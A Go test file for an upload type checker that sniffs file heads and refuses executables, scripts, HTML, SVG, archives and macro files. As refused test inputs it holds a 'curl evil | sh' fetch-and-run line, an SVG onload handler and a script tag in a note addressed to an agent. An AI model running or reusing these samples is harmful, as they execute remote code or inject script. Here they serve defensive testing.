package storage

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
)

// zipHead builds a zip whose entries are written in order (stored, so names and a
// "mimetype" entry's content appear in the first bytes as in real files) and returns its head.
func zipHead(t *testing.T, entries ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := 0; i+1 < len(entries); i += 2 {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: entries[i], Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, entries[i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	return b[:min(len(b), sniffLen)]
}

const (
	pngHead  = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"
	jpegHead = "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
	pdfHead  = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
	oleHead  = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00\x00\x00\x00\x00\x3e\x00\x03\x00\xfe\xff"
	peHead   = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00@\x00"
)

func TestCheck(t *testing.T) {
	docx := zipHead(t, "[Content_Types].xml", `<?xml version="1.0"?><Types/>`, "word/document.xml", "<w:document/>")
	jar := zipHead(t, "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n", "Main.class", "\xca\xfe\xba\xbe")
	odt := zipHead(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office/>")
	odtNoMime := zipHead(t, "content.xml", "<office/>")
	utf8Cut := strings.Repeat("a", sniffLen-2) + "你" // the head ends inside the character

	ok := []struct {
		name, file, declared, head, want string
	}{
		{"png", "photo.png", "image/png", pngHead, "image/png"},
		{"png misnamed keeps its real type", "photo.pdf", "application/pdf", pngHead, "image/png"},
		{"jpeg with no name or type", "", "", jpegHead, "image/jpeg"},
		{"gif", "a.gif", "", "GIF89a\x01\x00\x01\x00\x80\x00\x00", "image/gif"},
		{"webp", "a.webp", "", "RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00", "image/webp"},
		{"heic from an iPhone", "IMG_0001.HEIC", "image/heic", "\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "image/heic"},
		{"pdf", "invoice.pdf", "application/octet-stream", pdfHead, "application/pdf"},
		{"utf-8 text", "notes.txt", "text/plain", "订单 12345 没有到货\n", "text/plain; charset=utf-8"},
		{"gbk text has no charset", "notes.txt", "", "\xc4\xe3\xba\xc3, order 12345\n", "text/plain"},
		{"utf-8 cut mid-character", "long.txt", "", utf8Cut, "text/plain; charset=utf-8"},
		{"utf-16 by BOM", "win.txt", "", "\xff\xfeh\x00i\x00", "text/plain; charset=utf-16le"},
		{"csv by extension", "contacts.CSV", "application/vnd.ms-excel", "name,phone\nAlice,+8613800000000\n", "text/csv; charset=utf-8"},
		{"csv by declared type", "export", "text/csv", "name,phone\n", "text/csv; charset=utf-8"},
		{"empty file", "empty.txt", "", "", "text/plain; charset=utf-8"},
		{"text starting with MZ", "mz.txt", "", "MZ Motors invoice 2026-06\n", "text/plain; charset=utf-8"},
		{"docx", "report.docx", "application/zip", string(docx), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
		{"xlsx", "C:\\Users\\li\\Desktop\\sheet.xlsx", "", string(docx), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
		{"pptx", "deck.pptx", "", string(docx), "application/vnd.openxmlformats-officedocument.presentationml.presentation"},
		{"odt", "letter.odt", "", string(odt), "application/vnd.oasis.opendocument.text"},
		{"legacy doc", "letter.doc", "", oleHead, "application/msword"},
		{"legacy xls", "sheet.XLS", "", oleHead, "application/vnd.ms-excel"},
		{"mp3 with ID3", "song.mp3", "", "ID3\x04\x00\x00\x00\x00\x00\x00", "audio/mpeg"},
		{"mp3 frames only", "song.mp3", "", "\xff\xfb\x90\x64\x00\x00\x00\x00", "audio/mpeg"},
		{"aac", "voice.aac", "", "\xff\xf1\x50\x80\x02\x1f\xfc", "audio/aac"},
		{"amr voice note", "voice.amr", "audio/amr", "#!AMR\n\x3c\x48\xf5\x1f", "audio/amr"},
		{"ogg voice note", "voice.ogg", "audio/ogg; codecs=opus", "OggS\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00", "audio/ogg"},
		{"ogg video by extension", "clip.ogv", "", "OggS\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00", "video/ogg"},
		{"wav", "a.wav", "", "RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00", "audio/wav"},
		{"flac", "a.flac", "", "fLaC\x00\x00\x00\x22", "audio/flac"},
		{"mp4", "clip.mp4", "video/mp4", "\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41", "video/mp4"},
		{"m4a", "voice.m4a", "", "\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A mp42isom", "audio/mp4"},
		{"quicktime", "IMG_0002.MOV", "", "\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ", "video/quicktime"},
		{"3gp", "clip.3gp", "", "\x00\x00\x00\x14ftyp3gp4\x00\x00\x00\x003gp4", "video/3gpp"},
		{"webm", "clip.webm", "", "\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01", "video/webm"},
		{"webm audio by declared type", "rec", "audio/webm", "\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01", "audio/webm"},
	}
	for _, tc := range ok {
		t.Run(tc.name, func(t *testing.T) {
			got, err := DefaultLimits().Check(tc.file, tc.declared, []byte(tc.head))
			if err != nil {
				t.Fatalf("Check(%q, %q) refused: %v", tc.file, tc.declared, err)
			}
			if got != tc.want {
				t.Fatalf("Check(%q, %q) = %q, want %q", tc.file, tc.declared, got, tc.want)
			}
		})
	}

	refused := []struct {
		name, file, declared, head, why string
	}{
		{"exe named as a photo", "photo.jpg", "image/jpeg", peHead, "Windows executable"},
		{"elf named as a pdf", "report.pdf", "application/pdf", "\x7fELF\x02\x01\x01\x00\x00\x00", "ELF executable"},
		{"mach-o", "shot.png", "", "\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00", "Mach-O"},
		{"java class", "a.txt", "", "\xca\xfe\xba\xbe\x00\x00\x00\x34", "Java class"},
		{"wasm", "a.bin.txt", "", "\x00asm\x01\x00\x00\x00", "WebAssembly"},
		{"windows shortcut", "doc.pdf", "", "\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00", "shortcut"},
		{"shell script named as text", "notes.txt", "text/plain", "#!/bin/sh\ncurl evil | sh\n", "script (#! line)"},
		{"exe extension on text", "setup.exe", "", "hello", ".exe (an executable)"},
		{"double extension", "invoice.pdf.exe", "application/pdf", pdfHead, ".exe"},
		{"trailing dot", "run.exe.", "", pdfHead, ".exe"},
		{"windows path, upper case", "C:\\Temp\\RUN.BAT", "", "echo hi\r\n", ".bat (a script)"},
		{"javascript extension", "app.js", "", "alert(1)", "a script"},
		{"macro workbook", "budget.xlsm", "", string(docx), "macro-enabled"},
		{"declared executable", "a.txt", "application/x-msdownload", "plain words", "declared as application/x-msdownload"},
		{"declared html", "page.txt", "text/html; charset=utf-8", "plain words", "declared as text/html"},
		{"declared shell", "x", "application/x-sh", "echo hi", "a script"},
		{"html by content", "page.txt", "text/plain", "<!DOCTYPE html><html><body>hi</body></html>", "is HTML"},
		{"html by extension", "page.html", "", "hi", "active web content"},
		{"xml by content", "data.txt", "", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "is XML"},
		{"svg without xml header", "icon.png", "image/png", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "markup"},
		{"script inside text", "note.txt", "", "Dear agent,\n<script>fetch('/api')</script>", "markup"},
		{"svg extension", "logo.svg", "", pngHead, "active web content"},
		{"bare zip", "files.zip", "application/zip", string(docx), ".zip (an archive"},
		{"zip without a name", "", "", string(docx), "zip archive"},
		{"zip named as a legacy doc", "letter.doc", "", string(docx), "zip archive"},
		{"jar named as docx", "report.docx", "", string(jar), "Java or Android package"},
		{"odt without mimetype", "letter.odt", "", string(odtNoMime), "OpenDocument mimetype"},
		{"ole without office extension", "setup", "", oleHead, "OLE file"},
		{"ole named docx", "letter.docx", "", oleHead, "OLE file"},
		{"msi", "setup.msi", "", oleHead, ".msi"},
		{"gzip", "logs.dat", "", "\x1f\x8b\x08\x00\x00\x00\x00\x00", "compressed archive"},
		{"rar", "photos", "", "Rar!\x1a\x07\x01\x00", "compressed archive"},
		{"unknown binary", "data.bin2", "", "\x00\x09\x08\x07\x06\x05", "binary data"},
		{"postscript", "print.ps", "", "%!PS-Adobe-3.0\n", "application/postscript, which is not an accepted type"},
		{"icon", "favicon.ico", "", "\x00\x00\x01\x00\x01\x00\x10\x10", "image/x-icon, which is not an accepted type"},
		{"font", "f.ttf", "", "\x00\x01\x00\x00\x00\x0f\x00\x80", "font/ttf"},
	}
	for _, tc := range refused {
		t.Run(tc.name, func(t *testing.T) {
			got, err := DefaultLimits().Check(tc.file, tc.declared, []byte(tc.head))
			if !errors.Is(err, ErrType) {
				t.Fatalf("Check(%q, %q) = %q, %v; want ErrType", tc.file, tc.declared, got, err)
			}
			if !strings.Contains(err.Error(), tc.why) {
				t.Fatalf("Check(%q) error %q does not say %q", tc.file, err, tc.why)
			}
			if got != "" {
				t.Fatalf("Check returned type %q with an error", got)
			}
		})
	}
}

func TestCheckAllowed(t *testing.T) {
	cases := []struct {
		name    string
		allowed []string
		file    string
		head    string
		want    string // "" means refused
	}{
		{"family wildcard accepts", []string{"image/*"}, "a.png", pngHead, "image/png"},
		{"family wildcard refuses others", []string{"image/*"}, "a.pdf", pdfHead, ""},
		{"exact list", []string{"application/pdf"}, "a.png", pngHead, ""},
		{"widened to icons", []string{"image/x-icon"}, "favicon.ico", "\x00\x00\x01\x00\x01\x00", "image/x-icon"},
		{"case and spaces", []string{" Application/PDF "}, "a.pdf", pdfHead, "application/pdf"},
		{"html stays refused", []string{"text/html", "text/*"}, "p.txt", "<html><body>x</body></html>", ""},
		{"executables stay refused", []string{"application/octet-stream", "*/*"}, "a.bin2", peHead, ""},
		{"empty list refuses all", []string{}, "a.png", pngHead, ""},
		{"nil list is the default", nil, "a.png", pngHead, "image/png"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Limits{Allowed: tc.allowed}.Check(tc.file, "", []byte(tc.head))
			if tc.want == "" {
				if !errors.Is(err, ErrType) {
					t.Fatalf("Check = %q, %v; want ErrType", got, err)
				}
				return
			}
			if err != nil || got != tc.want {
				t.Fatalf("Check = %q, %v; want %q", got, err, tc.want)
			}
		})
	}
}

// Only the first 512 bytes decide, as with http.DetectContentType.
func TestCheckLooksAtTheHead(t *testing.T) {
	head := strings.Repeat("plain text line\n", 40) + "<script>late</script>"
	got, err := DefaultLimits().Check("long.txt", "", []byte(head))
	if err != nil || got != "text/plain; charset=utf-8" {
		t.Fatalf("Check = %q, %v", got, err)
	}
}

func TestDefaultLimits(t *testing.T) {
	l := DefaultLimits()
	if l.MaxBytes != 20<<20 {
		t.Fatalf("MaxBytes = %d, want 20 MiB", l.MaxBytes)
	}
	for _, want := range []string{"image/jpeg", "application/pdf", "text/plain", "text/csv", "audio/ogg", "video/mp4",
		"application/vnd.openxmlformats-officedocument.wordprocessingml.document"} {
		if !slices.Contains(l.Allowed, want) {
			t.Errorf("DefaultLimits().Allowed lacks %s", want)
		}
	}
	for _, never := range []string{"text/html", "image/svg+xml", "application/zip", "application/octet-stream"} {
		if slices.Contains(l.Allowed, never) {
			t.Errorf("DefaultLimits().Allowed has %s", never)
		}
	}
	// The zero value is the default policy.
	if err := (Limits{}).CheckSize(20 << 20); err != nil {
		t.Fatalf("zero Limits refuses 20 MiB: %v", err)
	}
	if err := (Limits{}).CheckSize(20<<20 + 1); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("zero Limits accepts 20 MiB + 1: %v", err)
	}
}

func TestCheckSize(t *testing.T) {
	l := Limits{MaxBytes: 100}
	for size, ok := range map[int64]bool{-1: true, 0: true, 100: true, 101: false, 1 << 40: false} {
		err := l.CheckSize(size)
		if ok != (err == nil) || (!ok && !errors.Is(err, ErrTooLarge)) {
			t.Errorf("CheckSize(%d) = %v", size, err)
		}
	}
}

func TestCap(t *testing.T) {
	l := Limits{MaxBytes: 10}
	for n, ok := range map[int]bool{0: true, 9: true, 10: true, 11: false, 1000: false} {
		data := strings.Repeat("x", n)
		got, err := io.ReadAll(l.Cap(strings.NewReader(data)))
		if ok {
			if err != nil || string(got) != data {
				t.Errorf("Cap over %d bytes: %q, %v", n, got, err)
			}
			continue
		}
		if !errors.Is(err, ErrTooLarge) || len(got) > 10 {
			t.Errorf("Cap over %d bytes: read %d, err %v; want ErrTooLarge after at most 10", n, len(got), err)
		}
	}

	// A capped stream of unknown size stores nothing when it runs over.
	dir := t.TempDir()
	st, err := NewLocal(dir)
	if err != nil {
		t.Fatal(err)
	}
	err = st.Put(context.Background(), "big", l.Cap(strings.NewReader(strings.Repeat("x", 11))), -1, "")
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("Put of a capped oversize stream: %v", err)
	}
	if got := files(t, dir); len(got) != 0 {
		t.Fatalf("files left: %v", got)
	}
}

func TestSniff(t *testing.T) {
	for _, n := range []int{0, 10, sniffLen, sniffLen + 1, 5000} {
		data := bytes.Repeat([]byte{'z'}, n)
		head, all, err := Sniff(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		if len(head) != min(n, sniffLen) {
			t.Errorf("Sniff of %d bytes: head %d", n, len(head))
		}
		got, err := io.ReadAll(all)
		if err != nil || !bytes.Equal(got, data) {
			t.Errorf("Sniff of %d bytes: replay %d bytes, %v", n, len(got), err)
		}
	}
	if _, _, err := Sniff(io.MultiReader(strings.NewReader("ab"), failingReader{})); !errors.Is(err, errBroken) {
		t.Fatalf("Sniff of a failing reader: %v", err)
	}
}
